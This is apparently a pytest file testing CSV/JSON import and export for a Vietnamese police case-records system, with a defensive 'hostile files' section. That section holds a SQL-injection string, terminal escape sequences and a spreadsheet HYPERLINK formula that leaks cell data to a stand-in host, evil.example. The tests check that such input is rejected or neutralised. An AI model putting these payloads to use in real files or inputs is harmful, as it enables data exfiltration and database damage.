"""CSV import is all or nothing and lists every bad row; export writes back the same columns."""

import io
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import Engine, func, select

from models import KINDS, Actor, AwardRecipient, ChangeLogEntry, csvio, demo, records, report
from models.db import open_database, read_session, write_session
from models.errors import InvalidInput

HEADER = (
    "code,title,article,clause,occurred_on,locality,lead_unit,coordinating_units,"
    "coordination,status,cleared_on,tip_code,campaign_code"
)


def import_text(engine: Engine, kind: str, text: str, *, dry_run: bool = False) -> int:
    rows = csvio.read_csv(text.encode("utf-8"), kind)
    with write_session(engine) as session:
        count = csvio.import_rows(session, actor=Actor.local_admin(), kind=kind, rows=rows)
        if dry_run:
            session.rollback()
    return count


def problems(engine: Engine, kind: str, text: str) -> list[str]:
    with pytest.raises(InvalidInput) as raised:
        import_text(engine, kind, text)
    return [str(problem) for problem in raised.value.problems]


def counts(engine: Engine) -> dict[str, int]:
    with read_session(engine) as session:
        result = {
            name: session.scalar(select(func.count()).select_from(kind.table)) or 0
            for name, kind in KINDS.items()
        }
        result["log"] = session.scalar(select(func.count()).select_from(ChangeLogEntry)) or 0
    return result


def test_a_good_file_is_imported_with_bom_and_both_date_styles(two_units: Engine) -> None:
    text = (
        "\ufeff"
        + HEADER
        + "\n"
        + "\n".join(
            [
                'V1,"Trộm cắp xe máy, đèo Cù Mông",173,1,05/03/2017,LA,A,B,joint,cleared,'
                "2017-03-20,,CD1",
                "V2,Cướp giật,171,,2017-04-01,LB,B,,none,investigating,,,",
                "",
            ]
        )
    )
    assert import_text(two_units, "cases", text) == 2
    with read_session(two_units) as session:
        case = KINDS["cases"].snapshot(records.get(session, KINDS["cases"], "V1"))
    assert case["title"] == "Trộm cắp xe máy, đèo Cù Mông"
    assert (case["occurred_on"], case["cleared_on"]) == (date(2017, 3, 5), date(2017, 3, 20))
    assert case["coordinating_units"] == ["B"] and case["campaign_code"] == "CD1"


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        (
            "V1,Vụ,173,,31/02/2017,LA,A,,none,investigating,,,",
            "row 2, column occurred_on: 31/02/2017 — không phải ngày hợp lệ (dd/mm/yyyy)",
        ),
        (
            "V1,Vụ,173,,01/02/2017,NOWHERE,A,,none,investigating,,,",
            "row 2, column locality: NOWHERE — không có xã/phường mã này",
        ),
        (
            "V1,Vụ,173,,01/02/2017,LA,A,,none,cleared,,,",
            "row 2, column cleared_on:  — vụ việc đã làm rõ phải có ngày làm rõ",
        ),
        (
            ",Vụ,173,,01/02/2017,LA,A,,none,investigating,,,",
            "row 2, column code:  — bắt buộc phải có",
        ),
        (
            "V1,Vụ,17a3,,01/02/2017,LA,A,,none,investigating,,,",
            "row 2, column article: 17a3 — điều luật phải là số, có thể kèm chữ (ví dụ 173, 256a)",
        ),
        (
            "V1,Vụ,173,,01/02/2017,LA,A,,together,investigating,,,",
            "row 2, column coordination: together — phải là một trong: none, directed, joint",
        ),
        (
            "V1,Vụ,173,,01/02/2017,LA,A,,none,investigating,,NT-404,",
            "row 2, column tip_code: NT-404 — không có nguồn tin mã này",
        ),
    ],
)
def test_each_kind_of_bad_row_is_named_and_nothing_is_written(
    two_units: Engine, row: str, expected: str
) -> None:
    before = counts(two_units)
    good = "V0,Vụ tốt,173,,01/02/2017,LA,A,,none,investigating,,,"
    assert problems(two_units, "cases", "\n".join([HEADER, good, row])) == [
        expected.replace("row 2", "row 3")
    ]
    assert counts(two_units) == before


def test_every_bad_row_is_listed_not_just_the_first(two_units: Engine) -> None:
    text = "\n".join(
        [
            HEADER,
            "V1,Vụ,173,,01/02/2017,LA,A,,none,investigating,,,",
            "V1,Vụ trùng mã,173,,01/02/2017,LA,A,,none,investigating,,,",
            "V3,Vụ,173,,01/02/2030,LA,A,,none,investigating,,,",
            "V4,Vụ,173,,01/02/2017,LA,Z,,none,investigating,,,",
        ]
    )
    assert problems(two_units, "cases", text) == [
        "row 3, column code: V1 — mã đã tồn tại",
        "row 4, column occurred_on: 01/02/2030 — là ngày trong tương lai",
        "row 5, column lead_unit: Z — không có đơn vị mã này",
    ]


def found(engine: Engine, words: str) -> list[str]:
    from models.listing import Filters, listing
    from models.paging import page

    view = listing("cases", date(2018, 1, 1))
    with read_session(engine) as session:
        return [row["code"] for row in page(session, view, Filters(search=words), date(2018, 1, 1))]


def test_imported_records_are_found_by_search_and_so_is_a_later_save(two_units: Engine) -> None:
    # The import fills the full-text index in one statement at the end (models.bulk), without
    # the per-row trigger: both it and the trigger a later save relies on must come out right.
    rows = "\n".join(
        f"V{n},Trộm chó ở thôn Đồng Nai {n},173,,01/02/2017,LA,A,,none,investigating,,,"
        for n in range(1, 4)
    )
    assert import_text(two_units, "cases", f"{HEADER}\n{rows}\n") == 3
    assert sorted(found(two_units, "dong nai")) == ["V1", "V2", "V3"]
    bad = "V9,Trộm chó ở Bến Tre,173,,01/02/2017,NOWHERE,A,,none,investigating,,,"
    problems(
        two_units,
        "cases",
        f"{HEADER}\nV8,Trộm chó ở Bến Tre,173,,01/02/2017,LA,A,,none,investigating,,,\n{bad}\n",
    )
    assert found(two_units, "ben tre") == []
    import_text(
        two_units,
        "cases",
        f"{HEADER}\nV8,Trộm chó ở Bến Tre,173,,01/02/2017,LA,A,,none,investigating,,,\n",
    )
    with write_session(two_units) as session:
        records.create(
            session,
            actor=Actor.local_admin(),
            kind=KINDS["cases"],
            data={
                "code": "V10",
                "title": "Cướp ở Hà Tiên",
                "article": "171",
                "occurred_on": "01/03/2017",
                "locality": "LA",
                "lead_unit": "A",
                "coordination": "none",
                "status": "investigating",
            },
        )
    assert found(two_units, "ben tre") == ["V8"] and found(two_units, "ha tien") == ["V10"]


def test_file_level_problems(two_units: Engine) -> None:
    assert problems(two_units, "cases", "code,title,colour\nV1,x,red\n") == [
        "row 1, column colour:  — cột không thuộc định dạng",
        *[
            f"row 1, column {c}:  — thiếu cột bắt buộc"
            for c in ("article", "occurred_on", "locality", "lead_unit", "coordination", "status")
        ],
    ]
    with pytest.raises(InvalidInput) as raised:
        csvio.read_csv("code,name\nX,Công an\n".encode("cp1258"), "units")
    assert raised.value.problems[0].reason == "err.encoding"
    with pytest.raises(InvalidInput) as raised:
        csvio.read_csv(b"", "units")
    assert raised.value.problems[0].reason == "err.empty_file"


def test_dry_run_checks_everything_and_writes_nothing(two_units: Engine) -> None:
    before = counts(two_units)
    text = HEADER + "\nV1,Vụ,173,,01/02/2017,LA,A,,none,investigating,,,\n"
    assert import_text(two_units, "cases", text, dry_run=True) == 1
    assert counts(two_units) == before


def test_rows_may_refer_to_rows_above_them_in_the_same_file(engine: Engine) -> None:
    text = "code,name,level,parent_code\nP,Công an tỉnh,tinh,\nC,Công an huyện,huyen,P\n"
    assert import_text(engine, "units", text) == 2


def test_award_rows_sharing_a_decision_are_one_decision(two_units: Engine) -> None:
    header = (
        "decision_no,decided_on,issuer,form,recipient_kind,recipient_name,recipient_unit,"
        "rank,position,achievement,campaign_code"
    )
    text = "\n".join(
        [
            header,
            "12/QĐ-UBND,28/12/2017,UBND thị xã Sông Cầu,giay_khen,collective,"
            "Công an xã Xuân Hải,A,,,Thành tích phối hợp,CD1",
            "12/QĐ-UBND,28/12/2017,UBND thị xã Sông Cầu,giay_khen,individual,Lê Văn Tám,A,Đại úy,"
            "Điều tra viên,Bắt đối tượng cướp giật,",
        ]
    )
    assert import_text(two_units, "awards", text) == 2
    assert counts(two_units)["award_decisions"] == 1
    mismatch = "\n".join(
        [
            header,
            "13/QĐ-UBND,28/12/2017,UBND,giay_khen,individual,An,,,,Thành tích A,",
            "13/QĐ-UBND,29/12/2017,UBND,giay_khen,individual,Bình,,,,Thành tích B,",
        ]
    )
    assert problems(two_units, "awards", mismatch) == [
        "row 3, column decided_on: 29/12/2017 — khác với dòng 2 của cùng quyết định"
    ]


def test_export_then_import_into_an_empty_database_gives_the_same_review(
    engine: Engine, tmp_path: Path
) -> None:
    with write_session(engine) as session:
        demo.build(session)
    target = open_database(f"sqlite:///{tmp_path / 'copy.sqlite'}")
    for kind in csvio.IMPORT_ORDER:
        out = io.StringIO()
        with read_session(engine) as session:
            csvio.write_csv(csvio.export_records(session, kind), kind, out)
        import_text(target, kind, out.getvalue())
        with read_session(target) as session:
            again = io.StringIO()
            csvio.write_csv(csvio.export_records(session, kind), kind, again)
        assert again.getvalue() == out.getvalue(), kind
    for year in (2016, 2017, 2018):
        period = (date(year, 1, 1), date(year, 12, 31))
        with read_session(engine) as a, read_session(target) as b:
            assert report.compute(a, *period) == report.compute(b, *period)


def test_json_export_has_the_csv_columns(two_units: Engine) -> None:
    import json

    out = io.StringIO()
    with read_session(two_units) as session:
        csvio.write_json(csvio.export_records(session, "campaigns"), out)
    (campaign,) = json.loads(out.getvalue())
    assert list(campaign) == [name for name, _ in csvio.COLUMNS["campaigns"]]
    assert campaign["units"] == ["A", "B"] and campaign["starts_on"] == "2017-01-10"


# --- hostile files ------------------------------------------------------------------------------

BASE_ROWS = {
    "units": "code=U9|name=Đội Cảnh sát hình sự|level=doi|parent_code=A|valid_from=2017-01-01",
    "localities": "code=L9|name=Xã Xuân Thịnh|unit_code=A|border_zone=yes",
    "tips": "code=T9|kind=to_giac|received_on=2017-05-01|receiving_unit=A|partner_unit=B|"
    "locality=LA|summary=Tố giác trộm|status=received|case_code=V0|reporter_name=Lê Văn Báo|"
    "reporter_contact=0905123456",
    "cases": "code=V9|title=Trộm cắp|article=173|clause=1|occurred_on=2017-05-02|locality=LA|"
    "lead_unit=A|coordinating_units=B|coordination=joint|status=investigating|campaign_code=CD1",
    "suspects": "code=S9|full_name=Nguyễn Văn Tý|birth_year=1990|address=Xuân Hải|"
    "case_codes=V0|status=wanted",
    "campaigns": "code=C9|name=Cao điểm hè|starts_on=2017-06-01|ends_on=2017-06-30|units=A;B|"
    "articles=173|localities=LA",
    "awards": "decision_no=9/QĐ|decided_on=2017-12-28|issuer=UBND thị xã|form=giay_khen|"
    "recipient_kind=individual|recipient_name=Lê Văn Tám|recipient_unit=A|rank=Đại úy|"
    "position=Điều tra viên|achievement=Bắt đối tượng|campaign_code=CD1",
    "clock_decisions": "code=QD9|case_code=V1|step=extension|number=12/QĐ-VKS|"
    "decided_on=2018-03-20|decided_by=Viện trưởng VKSND thị xã|requested_on=2018-03-15",
    "regulations": "code=QC9|name=Quy chế phối hợp|parties=A;B|localities=LA|"
    "signed_on=2016-12-20|starts_on=2017-01-01|hosts=2017:A",
}


def csv_text(kind: str, row: dict[str, str]) -> str:
    out = io.StringIO()
    csvio.write_table([row], [name for name, _ in csvio.COLUMNS[kind]], out)
    return out.getvalue()


def base_row(kind: str) -> dict[str, str]:
    return dict(cell.split("=", 1) for cell in BASE_ROWS[kind].split("|"))


@pytest.fixture
def with_case(two_units: Engine) -> Engine:
    import_text(
        two_units, "cases", HEADER + "\nV0,Vụ gốc,173,,01/02/2017,LA,A,,none,investigating,,,"
    )
    return two_units


@pytest.fixture
def sqlite_case(tmp_path: Path) -> Engine:
    """The world of `with_case` on SQLite only: validation is the same on every backend."""
    from .conftest import create

    engine = open_database(f"sqlite:///{tmp_path / 'hostile.sqlite'}")
    for code, name in (("A", "Công an thị xã Sông Cầu"), ("B", "Công an thành phố Qui Nhơn")):
        create(engine, KINDS["units"], code=code, name=name)
    create(
        engine, KINDS["localities"], code="LA", name="Xã Xuân Hải", unit_code="A", border_zone="yes"
    )
    create(
        engine,
        KINDS["campaigns"],
        code="CD1",
        name="Cao điểm",
        starts_on="2017-01-10",
        ends_on="2017-02-15",
        units="A;B",
    )
    import_text(engine, "cases", HEADER + "\nV0,Vụ gốc,173,,01/02/2017,LA,A,,none,investigating,,,")
    opened = HEADER + ",opened_on\nV1,Vụ đã khởi tố,173,1,01/02/2018,LA,A,,none,investigating,,,,"
    import_text(engine, "cases", opened + "02/02/2018")
    return engine


@pytest.mark.parametrize("kind", list(csvio.COLUMNS))
def test_no_column_of_any_kind_stores_a_terminal_escape(sqlite_case: Engine, kind: str) -> None:
    before = counts(sqlite_case)
    assert import_text(sqlite_case, kind, csv_text(kind, base_row(kind)), dry_run=True) == 1
    for column, _ in csvio.COLUMNS[kind]:
        for escape in ("\x1b[2J\x1b[31m", "\x9b31m", "\x07", "\x00", "\x7f"):
            row = base_row(kind)
            row[column] = (row.get(column) or "") + escape + "x"
            refused = problems(sqlite_case, kind, csv_text(kind, row))
            assert refused, (column, escape)
            assert all(problem.startswith(f"row 2, column {column}: ") for problem in refused)
            shown = "".join(refused)  # the value is quoted back printably: \x1b, never ESC
            assert not any(ord(c) < 32 or 0x7F <= ord(c) <= 0x9F for c in shown)
    assert counts(sqlite_case) == before


def test_every_field_of_every_kind_has_a_length_limit() -> None:
    from models.records import validate

    for kind in KINDS.values():
        for name in kind.create_model.model_fields:
            for huge in ("x" * 100_000, ";".join(["x"] * 50_000)):
                with pytest.raises(InvalidInput) as raised:
                    validate(kind.create_model, {name: huge})
                assert name in raised.value.by_field(), (kind.name, name, huge[:3])


def test_an_oversized_row_is_refused_before_it_is_read(two_units: Engine) -> None:
    text = HEADER + "\nV1," + "x" * (csvio.MAX_ROW_CHARACTERS + 1) + ",173,,01/02/2017,LA,A"
    assert problems(two_units, "cases", text) == ["row 2, column -:  — dòng quá dài"]


def test_sql_in_a_value_is_only_text(two_units: Engine) -> None:
    hostile = "Công an'); DROP TABLE cases; --"
    import_text(two_units, "units", f'code,name\nU7,"{hostile}"\n')
    with read_session(two_units) as session:
        assert records.get(session, KINDS["units"], "U7").name == hostile
        assert session.scalar(select(func.count()).select_from(KINDS["cases"].table)) == 0


FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "clause": "-5",
    "summary": "+84 905 123 456 gọi đến",
    "address": "@Xuân Hải",
    "achievement": "'=đã có dấu nháy",
    "name": "''-hai dấu nháy",
    "harmless": "'không phải công thức",
}


def test_formula_cells_are_neutralised_and_come_back_unchanged(
    with_case: Engine, tmp_path: Path
) -> None:
    rows = {
        "cases": {**base_row("cases"), "title": FORMULAS["title"], "clause": FORMULAS["clause"]},
        "tips": {**base_row("tips"), "summary": FORMULAS["summary"]},
        "suspects": {**base_row("suspects"), "address": FORMULAS["address"]},
        "awards": {**base_row("awards"), "achievement": FORMULAS["achievement"]},
        "campaigns": {**base_row("campaigns"), "name": FORMULAS["name"]},
        "units": {**base_row("units"), "name": FORMULAS["harmless"]},
    }
    for kind in ("units", "campaigns", "cases", "tips", "suspects", "awards"):
        import_text(with_case, kind, csv_text(kind, rows[kind]))
    exported = {}
    for kind in rows:
        out = io.StringIO()
        with read_session(with_case) as session:
            csvio.write_csv(csvio.export_records(session, kind), kind, out)
        exported[kind] = out.getvalue()
    cells = [
        cell for text in exported.values() for line in text.splitlines() for cell in line.split(",")
    ]
    assert not any(cell.lstrip('"')[:1] in ("=", "+", "-", "@") for cell in cells)
    assert "'=HYPERLINK(" in exported["cases"] and ",'-5," in exported["cases"]
    assert "'+84 905" in exported["tips"] and "'@Xuân Hải" in exported["suspects"]
    assert "''=đã có dấu nháy" in exported["awards"] and "'''-hai" in exported["campaigns"]
    assert ",'không phải công thức," in exported["units"]  # no formula: left alone
    # Import reads back exactly what was stored.
    target = open_database(f"sqlite:///{tmp_path / 'copy.sqlite'}")
    for kind in csvio.IMPORT_ORDER:
        with read_session(with_case) as session:
            out = io.StringIO()
            csvio.write_csv(csvio.export_records(session, kind), kind, out)
        import_text(target, kind, out.getvalue())
    with read_session(target) as session:
        case = records.get(session, KINDS["cases"], "V9")
        assert (case.title, case.clause) == (FORMULAS["title"], "-5")
        assert records.get(session, KINDS["campaigns"], "C9").name == FORMULAS["name"]
        assert records.get(session, KINDS["units"], "U9").name == FORMULAS["harmless"]
        recipient = session.scalars(select(AwardRecipient)).one()
        assert recipient.achievement == FORMULAS["achievement"]
    json_out = io.StringIO()
    with read_session(with_case) as session:
        csvio.write_json(csvio.export_records(session, "cases"), json_out)
    assert FORMULAS["title"].replace('"', '\\"') in json_out.getvalue()  # JSON is not a sheet
